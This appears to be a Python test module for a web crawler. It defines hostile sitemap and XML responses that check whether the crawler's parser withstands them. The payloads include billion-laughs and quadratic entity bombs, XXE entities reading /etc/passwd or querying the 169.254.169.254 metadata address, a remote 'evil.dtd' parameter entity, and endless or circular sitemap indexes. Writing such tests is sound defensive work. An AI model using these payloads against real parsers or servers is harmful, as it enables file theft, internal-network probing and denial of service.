"""Attacks by XML and by sitemaps: entities, files, indexes without end."""

from __future__ import annotations

from dataclasses import replace

from crawler.testing.attack import TOO_HEAVY, Attack, Visit, answer

_OPEN = b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
_XML = b'<?xml version="1.0"?>'
_URL = b"<url><loc>/page</loc></url>"


def _answer(body: bytes, type_: str = "application/xml") -> bytes:
    return answer(body, type_=type_)


def _with_entities(declarations: bytes, use: bytes) -> bytes:
    loc = b"<url><loc>/?" + use + b"</loc></url>"
    return _answer(_XML + b"<!DOCTYPE urlset [" + declarations + b"]>" + _OPEN + loc + b"</urlset>")


def _laughs(levels: int) -> bytes:
    lines = [b'<!ENTITY l0 "lol">']
    lines += [b'<!ENTITY l%d "%b">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, levels)]
    return b"".join(lines)


def _index(*locs: str) -> bytes:
    listed = "".join(f"<sitemap><loc>{loc}</loc></sitemap>" for loc in locs)
    return _answer(_XML + f"<sitemapindex>{listed}</sitemapindex>".encode())


def _urlset(*locs: str) -> bytes:
    return _OPEN + "".join(f"<url><loc>{loc}</loc></url>" for loc in locs).encode() + b"</urlset>"


async def _loop(visit: Visit) -> None:
    await visit.send(_index(visit.here, f"{visit.here}2" if visit.path != "2" else visit.here))


async def _deep(visit: Visit) -> None:
    """Indexes that list an index that lists an index, twelve of them; then a page."""
    level = int(visit.path or 0)
    await visit.send(_index(f"{visit.here}{level + 1}") if level < 12 else _answer(_urlset("/page")))


async def _endless(visit: Visit) -> None:
    await visit.send(_index(f"{visit.here}{int(visit.path or 0) + 1}"))


async def _wide(visit: Visit) -> None:
    """Each index lists a hundred more."""
    if len(visit.path) > 4:
        return await visit.send(_answer(_OPEN + b"</urlset>"))
    return await visit.send(_index(*(f"{visit.here}{visit.path}{number:02}" for number in range(100))))


async def _many(visit: Visit) -> None:
    """One more than a sitemap may have; all are one page, so that nobody has to fetch 50,001."""
    await visit.send(_answer(_XML + _OPEN + _URL * 50_001 + b"</urlset>"))


async def _billion_empty(visit: Visit) -> None:
    await visit.send(_answer(_XML + _OPEN + b"<url/>" * 1_000_000))


_XXE = b'<!ENTITY x SYSTEM "file:///etc/passwd">'
_XXE_HTTP = b'<!ENTITY x SYSTEM "http://169.254.169.254/latest/">'
_QUADRATIC = b'<!ENTITY a "' + b"a" * 50_000 + b'">'
_PARAMETER = b'<!ENTITY % a SYSTEM "http://10.0.0.1/evil.dtd"> %a;'
_ELSEWHERE = ("http://169.254.169.254/latest/", "file:///etc/passwd", "http://10.0.0.1/", "javascript:alert(1)")
_ATTRIBUTES = b"".join(b" a%d=''" % number for number in range(100_000))
_SELF_CLOSING = b"<url><loc>/page" + b"<b/>" * 250_000 + b"</loc></url>"


def _sitemap(name: str, body: bytes, requests: int = 3, **bounds: float) -> Attack:
    return Attack(name, body, is_sitemap=True, requests=requests, seconds=bounds.get("seconds", 2.0))


def _heavy(attack: Attack) -> Attack:
    """*attack*, which is harmless to who reads it as a sitemap, and too heavy to be parsed as HTML."""
    return replace(attack, linked=TOO_HEAVY, alone=True)


ATTACKS = (
    _sitemap("a billion laughs", _with_entities(_laughs(10), b"&l9;")),
    _sitemap("quadratic entities", _with_entities(_QUADRATIC, b"&a;" * 20_000)),
    _sitemap("an entity of a file", _with_entities(_XXE, b"&x;")),
    _sitemap("an entity of an inner server", _with_entities(_XXE_HTTP, b"&x;")),
    _sitemap("a parameter entity", _with_entities(_PARAMETER, b"")),
    _sitemap("an entity of itself", _with_entities(b'<!ENTITY a "&b;"><!ENTITY b "&a;">', b"&a;")),
    _sitemap("an outer DTD", _answer(_XML + b'<!DOCTYPE urlset SYSTEM "http://10.0.0.1/x.dtd">' + _urlset("/page"))),
    _sitemap("a DTD of 4 MB", _with_entities(b"<!ELEMENT x ANY>" * 250_000, b"")),
    _sitemap("1 MB of unclosed items", _answer(b"<item " * 175_000)),
    _sitemap("1 MB of unclosed attributes", _answer(_XML + b"<urlset " + b"a " * 500_000)),
    _heavy(_sitemap("100,000 attributes", _answer(_XML + b"<urlset" + _ATTRIBUTES + b"/>"))),
    _heavy(_sitemap("XML 200,000 deep", _answer(_XML + _OPEN + b"<a>" * 200_000))),
    _sitemap("1 MB in one name", _answer(_XML + b"<" + b"a" * 1_000_000)),
    _sitemap("a loc of 2 MB", _answer(_XML + _urlset("/" + "x" * 2_000_000))),
    _heavy(_sitemap("a loc of 250,000 elements", _answer(_XML + _OPEN + _SELF_CLOSING + b"</urlset>"))),
    _sitemap("an unclosed comment of 4 MB", _answer(_XML + _OPEN + b"<!-- " + b"-" * 4_000_000)),
    _sitemap("a sitemap in UTF-16", _answer((_XML.decode() + _urlset("/page").decode()).encode("utf-16"))),
    _sitemap("a sitemap that lies of UTF-16", _answer(b'<?xml version="1.0" encoding="utf-16"?>' + _urlset("/page"))),
    _sitemap(
        "a sitemap in an encoding nobody has", _answer(b'<?xml version="1.0" encoding="idna"?>' + _urlset("/page"))
    ),
    _sitemap("a sitemap of URLs elsewhere", _answer(_XML + _urlset(*_ELSEWHERE))),
    _sitemap("an index of URLs elsewhere", _index(*_ELSEWHERE)),
    _sitemap("a sitemap of plain text, 1,000,000 lines", _answer(b"x\n" * 1_000_000, "text/plain"), seconds=4.0),
    Attack("a sitemap index in a circle", _loop, is_sitemap=True, requests=4),
    Attack("a sitemap index twelve deep", _deep, is_sitemap=True, requests=14),
    Attack("an endless sitemap index", _endless, is_sitemap=True, requests=14),
    Attack("a sitemap with 50,001 URLs", _many, is_sitemap=True, requests=4, seconds=4.0),
    _heavy(Attack("a sitemap of 1,000,000 empty entries", _billion_empty, is_sitemap=True, seconds=8.0)),
)
